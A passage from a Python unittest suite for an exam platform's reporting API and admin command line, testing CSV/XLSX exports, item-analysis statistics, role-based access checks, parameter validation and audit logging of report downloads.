                self.assertEqual(cd, "attachment; filename=\"%s\"; filename*=UTF-8''%s"
                                 % (ascii_name, urllib.parse.quote(zh, safe="")))
                self.assertTrue(all(ord(ch) < 128 for ch in cd))

    def test_cli_formats(self):
        d = self.srv.dir
        rc, out, err = self.srv.admin("report", "results", EXAM, "--format", "xlsx")
        self.assertEqual(rc, 2, err)  # xlsx needs -o
        self.check(self.srv.admin("report", "results", EXAM, "--format", "csv", "-o", os.path.join(d, "r.csv")))
        with open(os.path.join(d, "r.csv"), "rb") as f:
            cli = f.read()
        api = self.get(self.hr, "/api/v1/reports/%s/results?format=csv" % EXAM).body
        self.assertEqual(cli, api)
        self.check(self.srv.admin("report", "pass-rates", EXAM, "--by", "category", "--format", "xlsx",
                                  "-o", os.path.join(d, "p.xlsx")))
        if openpyxl:
            ws = openpyxl.load_workbook(os.path.join(d, "p.xlsx")).active
            self.assertEqual(ws.cell(TITLE_ROWS + 1, 1).value, "类别")
        rc, out, err = self.srv.admin("report", "pass-rates", EXAM)
        self.assertEqual(rc, 2)  # --by is required
        rc, out, err = self.srv.admin("report", "pass-rates", EXAM, "--by", "org", "--depth", "0")
        self.assertEqual(rc, 2)
        rc, out, err = self.srv.admin("report", "results", "no-such-exam")
        self.assertEqual(rc, 1)
        self.assertIn("no-such-exam", err)
        rc, out, err = self.srv.admin("report", "items", "--help")
        self.assertEqual(rc, 0)
        self.assertIn("report items", out)

    def test_items(self):
        r = self.get(self.adm, "/api/v1/reports/%s/items" % EXAM)
        con = L.connect(self.srv)
        sub = {row[0]: row[1] for row in con.execute(
            "SELECT a.id, a.score2 FROM attempts a JOIN exams x ON x.id = a.exam_id"
            " WHERE x.code = ? AND a.status = 'submitted'", (EXAM,))}
        draws = {}
        for aid, pos, vid, pts in con.execute("SELECT attempt_id, position, version_id, points2 FROM attempt_questions"):
            if aid in sub:
                draws.setdefault(vid, []).append((aid, pos, pts))
        answers = {(a, p): (resp, earned) for a, p, resp, earned in
                   con.execute("SELECT attempt_id, position, response, earned2 FROM answers")}
        meta = {row[0]: row[1:] for row in con.execute(
            "SELECT v.id, q.bank, q.qid, v.version, v.type, q.ord FROM question_versions v"
            " JOIN questions q ON q.id = v.question_id")}
        con.close()
        self.assertEqual(r.body["attempts"], len(sub))
        self.assertGreater(len(draws), 0)
        order = sorted(draws, key=lambda v: (meta[v][0], meta[v][4], meta[v][2]))
        items = r.body["items"]
        self.assertEqual([(i["qid"], i["version"]) for i in items], [(meta[v][1], meta[v][2]) for v in order])
        for it, v in zip(items, order):
            ds = draws[v]
            n = len(ds)
            ok = {aid: answers.get((aid, pos), ("", None))[1] == pts for aid, pos, pts in ds}
            self.assertEqual(it["drawn"], n)
            self.assertEqual(it["correct"], sum(ok.values()))
            self.assertAlmostEqual(it["facility"], sum(ok.values()) / n, places=12)
            ranked = sorted((aid for aid, _, _ in ds), key=lambda a: (-sub[a], a))
            k = max(1, n * 27 // 100)
            if n >= 2:
                up = sum(ok[a] for a in ranked[:k])
                lo = sum(ok[a] for a in ranked[-k:])
                self.assertAlmostEqual(it["discrimination"], (up - lo) / k, places=12)
                self.assertEqual(it["flag"], "negative_discrimination" if up < lo else None)
            else:
                self.assertIsNone(it["discrimination"])
            for o in it["options"]:
                chosen = sum(1 for aid, pos, _ in ds if o["key"] in answers.get((aid, pos), ("", None))[0])
                self.assertEqual(o["count"], chosen, (it["qid"], o["key"]))
                self.assertAlmostEqual(o["share"], chosen / n, places=12)
            self.assertEqual([o["key"] for o in it["options"]],
                             ["T", "F"] if meta[v][3] == "judge" else list("ABCD"))
        # CSV of the same, and HR may not see it
        r = self.get(self.adm, "/api/v1/reports/%s/items?format=csv" % EXAM)
        rows = self.read_csv(r.body)
        self.assertEqual(rows[0][:8], ["题库", "题号", "版本", "题型", "题干", "抽中次数", "正确率", "区分度"])
        self.assertEqual(len(rows), len(items) + 1)
        self.assertStatus(self.hr.get("/api/v1/reports/%s/items" % EXAM), 403, "forbidden")

    def test_authorization(self):
        ex = self.srv.client()
        ex.login("exnot", PW)
        for kind in ("pass-rates?by=org", "results", "items"):
            with self.subTest(kind=kind):
                self.assertStatus(ex.get("/api/v1/reports/%s/%s" % (EXAM, kind)), 403, "forbidden")
                self.assertStatus(self.srv.client().get("/api/v1/reports/%s/%s" % (EXAM, kind)), 401)
                self.assertStatus(self.adm.get("/api/v1/reports/%s/%s" % (EXAM, kind)), 200)
        self.assertStatus(self.hr.get("/api/v1/reports/%s/results" % EXAM), 200)
        tok = self.srv.client(token=self.srv.token("hr1"))
        r = tok.get("/api/v1/reports/%s/pass-rates?by=category&format=csv" % EXAM)
        self.assertStatus(r, 200)
        self.assertTrue(r.body.startswith(b"\xef\xbb\xbf"))
        self.assertStatus(self.srv.client(token="x" * 43).get("/api/v1/reports/%s/results" % EXAM), 401)

    def test_bad_parameters(self):
        for q in ("by=unit", "by=org&depth=0", "by=org&depth=33", "by=org&depth=abc", "by=org&depth=",
                  "format=pdf", "format=XLSX"):
            with self.subTest(query=q):
                r = self.hr.get("/api/v1/reports/%s/pass-rates?%s" % (EXAM, q))
                self.assertStatus(r, 400, "bad_request")
                self.assertRegex(r.body["error"]["message"], r"[\u4e00-\u9fff]")
        self.assertStatus(self.hr.get("/api/v1/reports/%s/results?format=doc" % EXAM), 400, "bad_request")
        for kind in ("pass-rates", "results"):
            r = self.hr.get("/api/v1/reports/no-such-exam/%s" % kind)
            self.assertStatus(r, 404, "not_found")
            r = self.hr.get("/api/v1/reports/%s/%s" % (urllib.parse.quote("不存在的考试"), kind))
            self.assertStatus(r, 404, "not_found")

    def test_downloads_are_audited(self):
        self.get(self.hr, "/api/v1/reports/%s/results?format=csv" % EXAM)
        out = self.check(self.srv.admin("audit"))
        lines = [l for l in out.splitlines() if "report_download" in l and "hr1" in l]
        self.assertTrue(any(l.endswith("results %s format=csv" % EXAM) for l in lines), out[-2000:])
        self.assertTrue(any(l.split("\t")[2] == "127.0.0.1" for l in lines), out[-2000:])


if __name__ == "__main__":
    unittest.main()
